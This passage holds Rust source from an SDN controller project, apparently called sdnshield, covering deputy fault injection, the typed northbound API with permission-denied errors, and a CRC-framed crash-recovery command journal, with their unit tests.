            crash_before_append_on_record: self.crash_before_journal_append_on_record,
        }
    }
}

/// What a deputy should do with the call it is about to execute.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum DeputyFault {
    /// Execute normally.
    None,
    /// Panic mid-execution (caught by the deputy's unwind guard).
    Panic,
    /// Execute, then discard the reply without sending it.
    DropReply,
    /// Die: panic outside the unwind guard, taking the deputy thread down.
    KillDeputy,
}

struct ArmedPlan {
    plan: FaultPlan,
    calls_seen: u32,
}

/// Per-app armed fault plans, shared between the controller front-end (which
/// arms them) and the deputy pool (which consults them).
#[derive(Default)]
pub(crate) struct FaultRegistry {
    plans: Mutex<HashMap<AppId, ArmedPlan>>,
    /// Reply senders deliberately kept alive by `DropReply` so the caller
    /// sees a timeout rather than a disconnect.
    parked: Mutex<Vec<Box<dyn std::any::Any + Send>>>,
}

impl FaultRegistry {
    /// Arms (or replaces) the plan for an app. Counters restart at zero.
    pub(crate) fn arm(&self, app: AppId, plan: FaultPlan) {
        self.plans.lock().unwrap_or_else(|p| p.into_inner()).insert(
            app,
            ArmedPlan {
                plan,
                calls_seen: 0,
            },
        );
    }

    /// Called by a deputy once per mediated call from `app`; returns the
    /// fault (if any) scheduled for this call. Each fault fires once.
    pub(crate) fn deputy_action(&self, app: AppId) -> DeputyFault {
        let mut plans = self.plans.lock().unwrap_or_else(|p| p.into_inner());
        let Some(armed) = plans.get_mut(&app) else {
            return DeputyFault::None;
        };
        armed.calls_seen += 1;
        let nth = armed.calls_seen;
        if armed.plan.kill_deputy_on_nth_call == Some(nth) {
            armed.plan.kill_deputy_on_nth_call = None;
            return DeputyFault::KillDeputy;
        }
        if armed.plan.panic_in_deputy_on_nth_call == Some(nth) {
            armed.plan.panic_in_deputy_on_nth_call = None;
            return DeputyFault::Panic;
        }
        if armed.plan.drop_reply_on_nth_call == Some(nth) {
            armed.plan.drop_reply_on_nth_call = None;
            return DeputyFault::DropReply;
        }
        DeputyFault::None
    }

    /// Keeps a reply sender alive for the rest of the controller's lifetime.
    pub(crate) fn park(&self, sender: Box<dyn std::any::Any + Send>) {
        self.parked
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .push(sender);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deputy_faults_fire_once_at_the_scheduled_call() {
        let reg = FaultRegistry::default();
        reg.arm(AppId(1), FaultPlan::none().panic_in_deputy(2));
        assert_eq!(reg.deputy_action(AppId(1)), DeputyFault::None);
        assert_eq!(reg.deputy_action(AppId(1)), DeputyFault::Panic);
        assert_eq!(reg.deputy_action(AppId(1)), DeputyFault::None);
        // Unarmed apps are never faulted.
        assert_eq!(reg.deputy_action(AppId(2)), DeputyFault::None);
    }

    #[test]
    fn kill_takes_precedence_and_counters_are_per_app() {
        let reg = FaultRegistry::default();
        let plan = FaultPlan::none().kill_deputy(1).drop_reply(1);
        reg.arm(AppId(3), plan);
        assert_eq!(reg.deputy_action(AppId(3)), DeputyFault::KillDeputy);
        // Drop-reply was scheduled for call 1 as well; it missed its slot.
        assert_eq!(reg.deputy_action(AppId(3)), DeputyFault::None);
    }
}
