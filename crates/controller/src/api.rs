//! The controller's northbound API surface: typed requests and responses
//! marshalled between app threads and kernel deputies.

use std::fmt;

use sdnshield_core::api::{ApiCall, EventKind};
use sdnshield_core::engine::{Decision, DenyReason};
use sdnshield_core::token::PermissionToken;
use sdnshield_openflow::messages::{FlowMod, FlowStats, OfError, PacketOut, StatsReply};
use sdnshield_openflow::types::{DatapathId, PortNo};

use crate::hostsys::ConnId;

/// A topology view returned to apps — possibly filtered or virtualized
/// according to the app's `visible_topology` filter.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct TopologyView {
    /// Visible switches with their ports.
    pub switches: Vec<SwitchView>,
    /// Visible inter-switch links as (a, b) dpid pairs (undirected, each
    /// once).
    pub links: Vec<(DatapathId, DatapathId)>,
    /// Hosts attached to visible switches.
    pub hosts: Vec<sdnshield_netsim::topology::Host>,
    /// Directed link port map: (src, src_port, dst, dst_port), for apps that
    /// install hop-by-hop paths.
    pub link_ports: Vec<(DatapathId, PortNo, DatapathId, PortNo)>,
}

/// One switch in a topology view.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SwitchView {
    /// Datapath id (virtual when a virtual-topology filter applies).
    pub dpid: DatapathId,
    /// Ports.
    pub ports: Vec<PortNo>,
}

impl TopologyView {
    /// Finds a switch by dpid.
    pub fn switch(&self, dpid: DatapathId) -> Option<&SwitchView> {
        self.switches.iter().find(|s| s.dpid == dpid)
    }

    /// Are two switches adjacent in the view?
    pub fn adjacent(&self, a: DatapathId, b: DatapathId) -> bool {
        self.links
            .iter()
            .any(|(x, y)| (*x == a && *y == b) || (*x == b && *y == a))
    }

    /// The egress port on `from` that reaches the adjacent switch `to`.
    pub fn port_toward(&self, from: DatapathId, to: DatapathId) -> Option<PortNo> {
        self.link_ports
            .iter()
            .find(|(a, _, b, _)| *a == from && *b == to)
            .map(|(_, p, _, _)| *p)
    }

    /// Finds the host with the given IP.
    pub fn host_by_ip(
        &self,
        ip: sdnshield_openflow::types::Ipv4,
    ) -> Option<&sdnshield_netsim::topology::Host> {
        self.hosts.iter().find(|h| h.ip == ip)
    }

    /// Finds the host with the given MAC.
    pub fn host_by_mac(
        &self,
        mac: sdnshield_openflow::types::EthAddr,
    ) -> Option<&sdnshield_netsim::topology::Host> {
        self.hosts.iter().find(|h| h.mac == mac)
    }

    /// Unweighted shortest path between two visible switches (BFS over the
    /// view's links), inclusive of both endpoints.
    pub fn shortest_path(&self, from: DatapathId, to: DatapathId) -> Option<Vec<DatapathId>> {
        use std::collections::{BTreeMap, BTreeSet, VecDeque};
        if from == to {
            return Some(vec![from]);
        }
        let mut adj: BTreeMap<DatapathId, Vec<DatapathId>> = BTreeMap::new();
        for (a, b) in &self.links {
            adj.entry(*a).or_default().push(*b);
            adj.entry(*b).or_default().push(*a);
        }
        let mut prev = BTreeMap::new();
        let mut seen = BTreeSet::from([from]);
        let mut queue = VecDeque::from([from]);
        while let Some(cur) = queue.pop_front() {
            for next in adj.get(&cur).into_iter().flatten() {
                if seen.insert(*next) {
                    prev.insert(*next, cur);
                    if *next == to {
                        let mut path = vec![to];
                        let mut c = to;
                        while c != from {
                            c = prev[&c];
                            path.push(c);
                        }
                        path.reverse();
                        return Some(path);
                    }
                    queue.push_back(*next);
                }
            }
        }
        None
    }
}

/// A successful API response.
#[derive(Debug, Clone, PartialEq)]
pub enum ApiResponse {
    /// Nothing to return.
    Unit,
    /// Flow-table read results (already visibility-filtered).
    FlowEntries(Vec<FlowStats>),
    /// Topology read result.
    Topology(TopologyView),
    /// Statistics.
    Stats(StatsReply),
    /// A host-network connection handle.
    Connection(ConnId),
    /// A subscription acknowledgment.
    Subscribed(EventKind),
}

/// Errors surfaced to apps from mediated API calls.
#[derive(Debug, Clone, PartialEq)]
pub enum ApiError {
    /// The permission engine denied the call.
    PermissionDenied {
        /// The token the call required.
        token: PermissionToken,
        /// The denial reason.
        reason: DenyReason,
    },
    /// The switch rejected the operation.
    Switch(OfError),
    /// A transaction aborted; no operation was applied.
    TransactionAborted {
        /// Index of the first offending operation.
        failed_index: usize,
        /// The underlying error.
        cause: Box<ApiError>,
    },
    /// Virtual-topology translation failed.
    Vtopo(String),
    /// The registration-time lint rejected the manifest (error-severity
    /// static-analysis finding; see `sdnshield-analysis`).
    ManifestRejected(String),
    /// The controller is shutting down.
    Shutdown,
    /// The deputy executing the call crashed; the call was discarded but the
    /// deputy pool (and every other app) keeps running.
    Internal(String),
    /// No reply arrived within the app's per-call deadline.
    Timeout,
}

impl ApiError {
    /// Builds the permission-denied variant from an engine decision.
    ///
    /// # Panics
    ///
    /// Panics when the decision is [`Decision::Allowed`] — callers convert
    /// only denials.
    pub fn from_decision(d: Decision) -> Self {
        match d {
            Decision::Allowed => panic!("allowed decision is not an error"),
            Decision::Denied { token, reason } => ApiError::PermissionDenied { token, reason },
        }
    }

    /// Is this a permission denial (as opposed to an operational error)?
    pub fn is_denied(&self) -> bool {
        matches!(self, ApiError::PermissionDenied { .. })
            || matches!(self, ApiError::TransactionAborted { cause, .. } if cause.is_denied())
    }
}

impl fmt::Display for ApiError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ApiError::PermissionDenied { token, reason } => {
                write!(f, "permission denied for {token}: {reason}")
            }
            ApiError::Switch(e) => write!(f, "switch error: {e}"),
            ApiError::TransactionAborted {
                failed_index,
                cause,
            } => {
                write!(f, "transaction aborted at op {failed_index}: {cause}")
            }
            ApiError::Vtopo(m) => write!(f, "virtual topology error: {m}"),
            ApiError::ManifestRejected(m) => write!(f, "manifest rejected by lint: {m}"),
            ApiError::Shutdown => write!(f, "controller is shutting down"),
            ApiError::Internal(m) => write!(f, "internal controller fault: {m}"),
            ApiError::Timeout => write!(f, "call timed out waiting for a reply"),
        }
    }
}

impl std::error::Error for ApiError {}

/// One flow operation inside a transaction.
#[derive(Debug, Clone, PartialEq)]
pub struct FlowOp {
    /// Target switch.
    pub dpid: DatapathId,
    /// The flow-mod to apply.
    pub flow_mod: FlowMod,
}

/// A request crossing the app → deputy channel.
#[derive(Debug)]
pub(crate) enum DeputyRequest {
    /// One mediated API call.
    Call {
        /// The reified call.
        call: ApiCall,
        /// Where to send the outcome.
        reply: crossbeam::channel::Sender<Result<ApiResponse, ApiError>>,
    },
    /// An atomic group of flow operations (paper §VI-B2).
    Transaction {
        /// The calling app.
        app: sdnshield_core::api::AppId,
        /// The operations, applied all-or-nothing.
        ops: Vec<FlowOp>,
        /// Where to send the outcome.
        reply: crossbeam::channel::Sender<Result<ApiResponse, ApiError>>,
    },
    /// A batch of flow operations moved across the channel in one crossing
    /// and checked under a single engine snapshot (same atomicity as
    /// `Transaction`, audited as a `batch`).
    Batch {
        /// The calling app.
        app: sdnshield_core::api::AppId,
        /// The operations, applied all-or-nothing.
        ops: Vec<FlowOp>,
        /// Where to send the outcome.
        reply: crossbeam::channel::Sender<Result<ApiResponse, ApiError>>,
    },
    /// A group of packet-outs moved across the channel in one crossing —
    /// the vectored counterpart of N `send_pkt_out` calls. Best-effort:
    /// each packet-out is checked and applied independently (matching a
    /// loop of singleton calls) and the reply carries the count sent.
    PacketOuts {
        /// The calling app.
        app: sdnshield_core::api::AppId,
        /// The packet-outs, in emission order.
        outs: Vec<(DatapathId, PacketOut)>,
        /// Where to send the number actually sent.
        reply: crossbeam::channel::Sender<Result<usize, ApiError>>,
    },
    /// Send on an established host connection (payload carried out-of-band
    /// of the core `ApiCall` so forensics records real bytes).
    HostSend {
        /// The calling app.
        app: sdnshield_core::api::AppId,
        /// The connection handle.
        conn: ConnId,
        /// The payload.
        data: bytes::Bytes,
        /// Where to send the outcome.
        reply: crossbeam::channel::Sender<Result<(), ApiError>>,
    },
    /// Subscribe to a custom topic.
    SubscribeTopic {
        /// The subscribing app.
        app: sdnshield_core::api::AppId,
        /// The topic.
        topic: String,
        /// Acknowledgment.
        reply: crossbeam::channel::Sender<Result<(), ApiError>>,
    },
    /// Publish a custom event to topic subscribers.
    Publish {
        /// The event (must be [`crate::events::Event::Custom`]).
        event: crate::events::Event,
        /// Acknowledgment.
        reply: crossbeam::channel::Sender<Result<(), ApiError>>,
    },
    /// Stop the receiving deputy thread.
    Stop,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn topology_view_queries() {
        let view = TopologyView {
            switches: vec![
                SwitchView {
                    dpid: DatapathId(1),
                    ports: vec![PortNo(1)],
                },
                SwitchView {
                    dpid: DatapathId(2),
                    ports: vec![PortNo(1)],
                },
            ],
            links: vec![(DatapathId(1), DatapathId(2))],
            hosts: Vec::new(),
            link_ports: vec![
                (DatapathId(1), PortNo(1), DatapathId(2), PortNo(1)),
                (DatapathId(2), PortNo(1), DatapathId(1), PortNo(1)),
            ],
        };
        assert!(view.switch(DatapathId(1)).is_some());
        assert_eq!(
            view.shortest_path(DatapathId(1), DatapathId(2)).unwrap(),
            vec![DatapathId(1), DatapathId(2)]
        );
        assert!(view.shortest_path(DatapathId(1), DatapathId(9)).is_none());
        assert_eq!(
            view.port_toward(DatapathId(1), DatapathId(2)),
            Some(PortNo(1))
        );
        assert_eq!(view.port_toward(DatapathId(1), DatapathId(9)), None);
        assert!(view.switch(DatapathId(9)).is_none());
        assert!(view.adjacent(DatapathId(2), DatapathId(1)), "undirected");
        assert!(!view.adjacent(DatapathId(1), DatapathId(1)));
    }

    #[test]
    fn api_error_classification() {
        let denied = ApiError::PermissionDenied {
            token: PermissionToken::InsertFlow,
            reason: DenyReason::MissingToken,
        };
        assert!(denied.is_denied());
        let txn = ApiError::TransactionAborted {
            failed_index: 2,
            cause: Box::new(denied.clone()),
        };
        assert!(txn.is_denied());
        let op = ApiError::Switch(OfError::TableFull);
        assert!(!op.is_denied());
        assert!(txn.to_string().contains("op 2"));
    }

    #[test]
    #[should_panic(expected = "allowed decision")]
    fn from_decision_rejects_allowed() {
        let _ = ApiError::from_decision(Decision::Allowed);
    }
}
