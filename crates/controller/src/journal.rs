//! The durable command journal: an append-only, CRC-framed log of every
//! [`Command`] the kernel commits, in commit order.
//!
//! On-disk format is a sequence of frames:
//!
//! ```text
//! [u32 len][u32 crc32][payload: u64 seq | u64 audit_seq_after | command bytes]
//! ```
//!
//! `len` counts payload bytes; `crc32` (IEEE, reflected, poly `0xEDB88320`)
//! covers the payload. [`Journal::open`] validates frames front to back and
//! truncates the file at the first incomplete or corrupt frame — a torn
//! tail from a crash mid-write is discarded cleanly, never half-decoded.
//!
//! Accepted relaxation (DESIGN.md §12): appends reach the OS via buffered
//! `write` without `fsync`, so the durability boundary is process crash,
//! not power loss. The simulated testbed only ever kills processes.
//!
//! Fault injection for the supervision test matrix lives here too:
//! [`JournalFaults`] arms torn writes at a byte offset, CRC corruption on a
//! chosen record, and a crash between apply and append.

use std::fs::{File, OpenOptions};
use std::io::{self, Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Mutex;

use bytes::{Buf, BufMut, Bytes, BytesMut};

use crate::command::{decode_command, encode_command, Command};

/// One committed command with its journal position and the audit watermark
/// observed immediately after it committed (recovery seeds the audit log
/// from the last record's watermark so replayed audit records extend the
/// sequence instead of colliding with pre-crash numbering).
#[derive(Debug, Clone, PartialEq)]
pub struct JournalRecord {
    /// Commit sequence number, 1-based, dense.
    pub seq: u64,
    /// `AuditLog::seen()` right after this command committed.
    pub audit_seq_after: u64,
    /// The command itself.
    pub cmd: Command,
}

/// Injected journal failures, armed via [`Journal::arm_faults`] (usually
/// through [`crate::fault::FaultPlan`]). Each fires at most once; after a
/// torn write or skipped append the journal marks itself dead and ignores
/// further appends, modeling the process dying at that instant.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct JournalFaults {
    /// Tear the frame that crosses this file byte offset: only the prefix
    /// up to the offset reaches disk, then the journal dies.
    pub torn_write_at_byte: Option<u64>,
    /// Flip the stored CRC of the record with this sequence number. The
    /// process continues (the in-memory record stays), but recovery from
    /// disk truncates at this record.
    pub corrupt_crc_on_record: Option<u64>,
    /// Die after applying but before appending the record with this
    /// sequence number — the classic apply/append crash window.
    pub crash_before_append_on_record: Option<u64>,
}

impl JournalFaults {
    /// True when no journal fault is armed.
    pub fn is_none(&self) -> bool {
        *self == JournalFaults::default()
    }
}

/// CRC-32 (IEEE 802.3, reflected, polynomial `0xEDB88320`), table-driven.
fn crc32(data: &[u8]) -> u32 {
    static TABLE: std::sync::OnceLock<[u32; 256]> = std::sync::OnceLock::new();
    let table = TABLE.get_or_init(|| {
        let mut table = [0u32; 256];
        for (i, slot) in table.iter_mut().enumerate() {
            let mut c = i as u32;
            for _ in 0..8 {
                c = if c & 1 != 0 {
                    0xEDB8_8320 ^ (c >> 1)
                } else {
                    c >> 1
                };
            }
            *slot = c;
        }
        table
    });
    let mut crc = 0xFFFF_FFFFu32;
    for &byte in data {
        crc = table[((crc ^ byte as u32) & 0xFF) as usize] ^ (crc >> 8);
    }
    !crc
}

struct JournalState {
    /// Every valid record, in commit order (always kept in memory; the
    /// warm standby tails this, not the file).
    records: Vec<JournalRecord>,
    /// Backing file, absent for purely in-memory journals.
    file: Option<File>,
    /// Bytes written to the file so far.
    file_len: u64,
    /// Armed fault injections.
    faults: JournalFaults,
}

/// The append-only command log. Thread-safe; one instance is shared by the
/// live kernel (appender) and any warm standby (tailer).
pub struct Journal {
    state: Mutex<JournalState>,
    /// Where the backing file lives, for diagnostics.
    path: Option<PathBuf>,
    /// Set once an injected fault has "killed" the journaling process;
    /// subsequent appends are dropped silently, as a dead process would.
    dead: AtomicBool,
}

impl Journal {
    /// A journal with no backing file: commands are retained in memory
    /// only. This is the warm-standby / record-replay configuration and
    /// the cheapest way to measure the journaling hot-path tax.
    pub fn in_memory() -> Journal {
        Journal {
            state: Mutex::new(JournalState {
                records: Vec::new(),
                file: None,
                file_len: 0,
                faults: JournalFaults::default(),
            }),
            path: None,
            dead: AtomicBool::new(false),
        }
    }

    /// An in-memory journal seeded with an already-captured trace — the
    /// record/replay loading path: feed a trace (e.g. a prefix of a crashed
    /// run's [`Journal::trace`]) to [`crate::kernel::Kernel::recover`] or a
    /// warm standby.
    pub fn from_trace(records: Vec<JournalRecord>) -> Journal {
        Journal {
            state: Mutex::new(JournalState {
                records,
                file: None,
                file_len: 0,
                faults: JournalFaults::default(),
            }),
            path: None,
            dead: AtomicBool::new(false),
        }
    }

    /// Opens (or creates) a file-backed journal, validating every frame and
    /// truncating the file at the first incomplete or corrupt one. The
    /// surviving records are loaded into memory; appends continue after
    /// them.
    ///
    /// # Errors
    ///
    /// Propagates I/O failures from opening, reading, or truncating the
    /// file. Corrupt *content* is not an error — it is recovered from by
    /// truncation, per the crash-consistency contract.
    pub fn open(path: impl AsRef<Path>) -> io::Result<Journal> {
        let path = path.as_ref().to_path_buf();
        let mut file = OpenOptions::new()
            .read(true)
            .write(true)
            .create(true)
            .truncate(false)
            .open(&path)?;
        let mut raw = Vec::new();
        file.read_to_end(&mut raw)?;

        let mut records = Vec::new();
        let mut valid_len = 0u64;
        let mut b = Bytes::from(raw);
        loop {
            if b.len() < 8 {
                break; // incomplete header: torn tail
            }
            let mut header = b.clone();
            let len = header.get_u32() as usize;
            let crc = header.get_u32();
            if header.len() < len {
                break; // incomplete payload: torn tail
            }
            let payload = header.slice(0..len);
            if crc32(&payload) != crc {
                break; // corrupt frame: truncate from here
            }
            match decode_record(payload) {
                Ok(rec) => records.push(rec),
                Err(_) => break, // CRC passed but content is garbage
            }
            valid_len += 8 + len as u64;
            b.advance(8 + len);
        }

        file.set_len(valid_len)?;
        file.seek(SeekFrom::End(0))?;
        Ok(Journal {
            state: Mutex::new(JournalState {
                records,
                file: Some(file),
                file_len: valid_len,
                faults: JournalFaults::default(),
            }),
            path: Some(path),
            dead: AtomicBool::new(false),
        })
    }

    /// The backing file path, if file-backed.
    pub fn path(&self) -> Option<&Path> {
        self.path.as_deref()
    }

    /// Arms injected journal faults (each fires at most once).
    pub fn arm_faults(&self, faults: JournalFaults) {
        self.state.lock().unwrap().faults = faults;
    }

    /// True once an injected fault has "killed" the journaling process.
    pub fn is_dead(&self) -> bool {
        self.dead.load(Ordering::SeqCst)
    }

    /// Appends one committed command. Called by the kernel under its commit
    /// lock, so records arrive in commit order with dense sequences.
    pub(crate) fn append(&self, seq: u64, audit_seq_after: u64, cmd: Command) {
        if self.is_dead() {
            return;
        }
        let mut state = self.state.lock().unwrap();
        self.append_locked(&mut state, seq, audit_seq_after, cmd);
    }

    /// Appends a whole commit group under a single state-lock acquisition.
    ///
    /// The group-commit combiner hands every record of a drained batch here
    /// at once; with no faults armed the frames are encoded into one buffer
    /// and reach the file through one `write_all`. The bytes are identical
    /// to `entries.len()` individual [`Journal::append`] calls (the frame
    /// format is unchanged — N frames, one flush), so `records_since`,
    /// reopen, and recovery replay stay byte-compatible with single-record
    /// journals. With faults armed the batch degrades to the per-record
    /// path so torn-write/CRC/crash-window injections keep their exact
    /// byte-offset semantics.
    pub(crate) fn append_batch(&self, entries: Vec<(u64, u64, Command)>) {
        if self.is_dead() || entries.is_empty() {
            return;
        }
        let mut state = self.state.lock().unwrap();
        if !state.faults.is_none() {
            for (seq, audit_seq_after, cmd) in entries {
                if !self.append_locked(&mut state, seq, audit_seq_after, cmd) {
                    return; // an injected fault "killed" the process mid-batch
                }
            }
            return;
        }
        // In-memory hot path: no frames needed (see `append_locked`).
        if state.file.is_none() {
            for (seq, audit_seq_after, cmd) in entries {
                state.records.push(JournalRecord {
                    seq,
                    audit_seq_after,
                    cmd,
                });
            }
            return;
        }
        let mut buf = BytesMut::new();
        let mut records = Vec::with_capacity(entries.len());
        for (seq, audit_seq_after, cmd) in entries {
            let record = JournalRecord {
                seq,
                audit_seq_after,
                cmd,
            };
            encode_frame(&record, None, &mut buf);
            records.push(record);
        }
        let flushed = buf.len() as u64;
        if let Some(file) = state.file.as_mut() {
            file.write_all(&buf)
                .expect("journal append failed: backing file unwritable");
        }
        state.file_len += flushed;
        state.records.extend(records);
    }

    /// The single-record append body, shared by [`Journal::append`] and the
    /// fault-armed arm of [`Journal::append_batch`]. Returns `false` when an
    /// injected fault killed the journal (the caller must stop appending).
    fn append_locked(
        &self,
        state: &mut JournalState,
        seq: u64,
        audit_seq_after: u64,
        cmd: Command,
    ) -> bool {
        if state.faults.crash_before_append_on_record == Some(seq) {
            state.faults.crash_before_append_on_record = None;
            self.dead.store(true, Ordering::SeqCst);
            return false; // applied but never journaled: the crash window
        }

        let record = JournalRecord {
            seq,
            audit_seq_after,
            cmd,
        };

        // In-memory hot path: with no backing file and no armed faults the
        // frame (length, CRC, encoded command) exists only to survive a
        // reopen, which can never happen — skip it. This keeps the journal
        // tax on the mediation hot path to a clone and a push.
        if state.file.is_none() && state.faults.is_none() {
            state.records.push(record);
            return true;
        }

        let corrupt = if state.faults.corrupt_crc_on_record == Some(seq) {
            state.faults.corrupt_crc_on_record = None;
            true
        } else {
            false
        };
        let mut frame = BytesMut::new();
        encode_frame(&record, corrupt.then_some(0xFF), &mut frame);

        if let Some(tear_at) = state.faults.torn_write_at_byte {
            let end = state.file_len + frame.len() as u64;
            if end > tear_at {
                state.faults.torn_write_at_byte = None;
                let keep = tear_at.saturating_sub(state.file_len) as usize;
                if let Some(file) = state.file.as_mut() {
                    let _ = file.write_all(&frame[..keep]);
                }
                self.dead.store(true, Ordering::SeqCst);
                return false; // process died mid-write; record never committed
            }
        }

        let frame_len = frame.len() as u64;
        if let Some(file) = state.file.as_mut() {
            file.write_all(&frame)
                .expect("journal append failed: backing file unwritable");
        }
        state.file_len += frame_len;
        state.records.push(record);
        true
    }

    /// Records with `seq > since`, in order — the warm-standby catch-up
    /// cursor and the recovery replay suffix.
    pub fn records_since(&self, since: u64) -> Vec<JournalRecord> {
        let state = self.state.lock().unwrap();
        let start = state.records.partition_point(|r| r.seq <= since);
        state.records[start..].to_vec()
    }

    /// Every retained record (a full trace for record/replay debugging).
    pub fn trace(&self) -> Vec<JournalRecord> {
        self.state.lock().unwrap().records.clone()
    }

    /// The highest committed sequence, or 0 when empty.
    pub fn last_seq(&self) -> u64 {
        self.state
            .lock()
            .unwrap()
            .records
            .last()
            .map_or(0, |r| r.seq)
    }

    /// Number of retained records.
    pub fn len(&self) -> usize {
        self.state.lock().unwrap().records.len()
    }

    /// True when no records are retained.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Drops in-memory records with `seq <= through_seq` — called after a
    /// snapshot makes that prefix redundant. The file is left alone (it
    /// remains a valid superset; rewriting it is a restart-time concern).
    pub fn compact(&self, through_seq: u64) {
        let mut state = self.state.lock().unwrap();
        state.records.retain(|r| r.seq > through_seq);
    }
}

impl std::fmt::Debug for Journal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let state = self.state.lock().unwrap();
        f.debug_struct("Journal")
            .field("records", &state.records.len())
            .field("file_len", &state.file_len)
            .field("path", &self.path)
            .field("dead", &self.is_dead())
            .finish()
    }
}

/// Encodes one `[u32 len][u32 crc32][payload]` frame onto `out`.
/// `crc_xor` flips the stored CRC (the corrupt-CRC fault injection).
fn encode_frame(record: &JournalRecord, crc_xor: Option<u32>, out: &mut BytesMut) {
    let mut payload = BytesMut::new();
    payload.put_u64(record.seq);
    payload.put_u64(record.audit_seq_after);
    encode_command(&record.cmd, &mut payload);
    let crc = crc32(&payload) ^ crc_xor.unwrap_or(0);
    out.put_u32(payload.len() as u32);
    out.put_u32(crc);
    out.extend_from_slice(&payload);
}

fn decode_record(mut payload: Bytes) -> Result<JournalRecord, crate::command::DecodeError> {
    if payload.len() < 16 {
        return Err(crate::command::DecodeError::new("short journal record"));
    }
    let seq = payload.get_u64();
    let audit_seq_after = payload.get_u64();
    let cmd = decode_command(&mut payload)?;
    if !payload.is_empty() {
        return Err(crate::command::DecodeError::new(
            "trailing bytes in journal record",
        ));
    }
    Ok(JournalRecord {
        seq,
        audit_seq_after,
        cmd,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use sdnshield_core::api::AppId;

    fn tmp(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join("sdnshield-journal-tests");
        std::fs::create_dir_all(&dir).unwrap();
        let unique = format!(
            "{}-{}-{name}.journal",
            std::process::id(),
            std::thread::current()
                .name()
                .unwrap_or("t")
                .replace("::", "-"),
        );
        dir.join(unique)
    }

    fn cmd(secs: u64) -> Command {
        Command::AdvanceClock { secs }
    }

    #[test]
    fn crc32_known_vector() {
        // The canonical IEEE check value.
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
    }

    #[test]
    fn in_memory_append_and_cursor() {
        let j = Journal::in_memory();
        for i in 1..=5 {
            j.append(i, i * 10, cmd(i));
        }
        assert_eq!(j.last_seq(), 5);
        assert_eq!(j.len(), 5);
        let suffix = j.records_since(3);
        assert_eq!(suffix.iter().map(|r| r.seq).collect::<Vec<_>>(), vec![4, 5]);
        assert_eq!(suffix[0].audit_seq_after, 40);
        j.compact(4);
        assert_eq!(j.records_since(0).len(), 1);
        assert_eq!(j.last_seq(), 5);
    }

    #[test]
    fn file_roundtrip_survives_reopen() {
        let path = tmp("roundtrip");
        let _ = std::fs::remove_file(&path);
        {
            let j = Journal::open(&path).unwrap();
            j.append(1, 2, cmd(1));
            j.append(
                2,
                4,
                Command::RegisterApp {
                    app: AppId(7),
                    name: "fw".into(),
                    manifest: "grant insert_flow;".into(),
                },
            );
        }
        let j = Journal::open(&path).unwrap();
        let trace = j.trace();
        assert_eq!(trace.len(), 2);
        assert_eq!(trace[1].seq, 2);
        assert_eq!(trace[1].audit_seq_after, 4);
        assert!(matches!(trace[1].cmd, Command::RegisterApp { .. }));
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn torn_tail_is_truncated_on_open() {
        let path = tmp("torn");
        let _ = std::fs::remove_file(&path);
        {
            let j = Journal::open(&path).unwrap();
            j.append(1, 1, cmd(1));
            j.append(2, 2, cmd(2));
        }
        let full = std::fs::read(&path).unwrap();
        // Tear mid-way through the second frame.
        let cut = full.len() - 5;
        std::fs::write(&path, &full[..cut]).unwrap();

        let j = Journal::open(&path).unwrap();
        assert_eq!(j.last_seq(), 1, "torn record discarded");
        // And the file itself was truncated back to the valid prefix.
        let survived = std::fs::read(&path).unwrap();
        assert!(survived.len() < cut);
        // Appending after recovery produces a clean frame again.
        j.append(2, 2, cmd(2));
        drop(j);
        let j = Journal::open(&path).unwrap();
        assert_eq!(j.last_seq(), 2);
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn corrupt_crc_truncates_from_bad_record() {
        let path = tmp("crc");
        let _ = std::fs::remove_file(&path);
        {
            let j = Journal::open(&path).unwrap();
            j.arm_faults(JournalFaults {
                corrupt_crc_on_record: Some(2),
                ..JournalFaults::default()
            });
            j.append(1, 1, cmd(1));
            j.append(2, 2, cmd(2));
            j.append(3, 3, cmd(3));
            // The live process kept all three in memory.
            assert_eq!(j.last_seq(), 3);
            assert!(!j.is_dead());
        }
        let j = Journal::open(&path).unwrap();
        // Recovery drops record 2 AND everything after it: prefix rule.
        assert_eq!(j.last_seq(), 1);
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn torn_write_fault_kills_journal() {
        let path = tmp("torn-fault");
        let _ = std::fs::remove_file(&path);
        let j = Journal::open(&path).unwrap();
        j.append(1, 1, cmd(1));
        let first_frame_len = std::fs::metadata(&path).unwrap().len();
        j.arm_faults(JournalFaults {
            torn_write_at_byte: Some(first_frame_len + 3),
            ..JournalFaults::default()
        });
        j.append(2, 2, cmd(2));
        assert!(j.is_dead());
        assert_eq!(j.last_seq(), 1, "torn record never committed in memory");
        // Further appends are dropped: the process is dead.
        j.append(3, 3, cmd(3));
        assert_eq!(j.last_seq(), 1);
        drop(j);
        let j = Journal::open(&path).unwrap();
        assert_eq!(j.last_seq(), 1, "recovery truncates the torn bytes");
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn crash_before_append_skips_record() {
        let j = Journal::in_memory();
        j.arm_faults(JournalFaults {
            crash_before_append_on_record: Some(2),
            ..JournalFaults::default()
        });
        j.append(1, 1, cmd(1));
        j.append(2, 2, cmd(2));
        assert!(j.is_dead());
        assert_eq!(j.last_seq(), 1);
    }

    #[test]
    fn garbage_file_recovers_to_empty() {
        let path = tmp("garbage");
        std::fs::write(&path, b"not a journal at all, definitely").unwrap();
        let j = Journal::open(&path).unwrap();
        assert!(j.is_empty());
        assert_eq!(std::fs::metadata(&path).unwrap().len(), 0);
        std::fs::remove_file(&path).unwrap();
    }

